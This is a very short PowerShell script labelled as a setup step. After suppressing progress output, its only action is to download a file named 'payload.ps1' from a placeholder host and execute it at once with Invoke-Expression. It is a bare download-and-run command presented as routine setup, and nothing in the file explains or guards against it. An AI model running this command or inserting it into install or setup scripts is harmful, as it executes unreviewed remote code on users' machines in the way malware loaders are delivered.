# setup 2899 v0
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
